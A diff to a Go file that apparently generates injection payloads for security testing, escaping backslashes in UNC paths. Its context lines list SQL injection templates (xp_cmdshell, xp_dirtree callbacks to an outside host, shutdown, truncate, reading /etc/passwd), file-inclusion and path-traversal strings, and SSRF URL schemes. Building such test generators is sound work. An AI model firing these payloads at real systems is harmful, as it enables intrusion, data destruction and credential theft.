@@ -238,7 +238,7 @@ func payloadRules() source {
 2~«sqn»;insert into «tbl» («col»,«col») values ('«a6»','«tok»')«sqend»
 1~«sqn»; delete from «tbl» where «cmpn»«sqend»
 1~«sqn»; exec master..xp_cmdshell 'ping «n».«nn».«nn».«n»'«sqend»
-1~«sqn»;exec xp_dirtree '\\«a6».example.net\«a3»'«sqend»
+1~«sqn»;exec xp_dirtree '\\\\«a6».example.net\«a3»'«sqend»
 1~«sqn»;declare @«a1» varchar(8000);set @«a1»=0x«hex32»;exec(@«a1»)«sqend»
 1~«sqn»; shutdown«sqend»
 1~«sqn»;copy «tbl»(«col») from '/etc/passwd'«sqend»
@@ -247,7 +247,7 @@ func payloadRules() source {
 1~«sqn»; alter table «tbl» drop column «col»«sqend»
 1~«sqn»;grant all on *.* to '«a6»'@'%'«sqend»
 1~«sqn»;truncate «tbl»«sqend»
-1~«sqn»;exec sp_makewebtask '\\«nn».«nn».«n».«n»\«a3»','select * from «tbl»'«sqend»
+1~«sqn»;exec sp_makewebtask '\\\\«nn».«nn».«n».«n»\«a3»','select * from «tbl»'«sqend»
 1~«sqn»;prepare «a3» from concat('sel','ect «n»');execute «a3»«sqend»`},
 		// Cross-site scripting.
 		{"js", `
@@ -450,7 +450,7 @@ func payloadRules() source {
 1~php://input
 1~%2f«ptFile»«ptSuf»
 1~/proc/self/root/«ptFile»
-1~\\«nn».«nn».«n».«n»\c$\windows\win.ini
+1~\\\\«nn».«nn».«n».«n»\c$\windows\win.ini
 1~/var/www/../../«ptFile»
 1~zip://uploads/«file2».zip%23«a3».php
 1~expect://id
@@ -647,7 +647,7 @@ func payloadRules() source {
 1~ftp://«inhost»/«a3»
 1~ldap://«inhost»:389/%0astats
 1~//«inhost»«inpath»
-1~http:\\«inhost»«inpath»
+1~http:\\\\«inhost»«inpath»
 1~url:http://«inhost»«inpath»
 1~tftp://«inhost»:69/«a3»
 1~netdoc:///etc/passwd
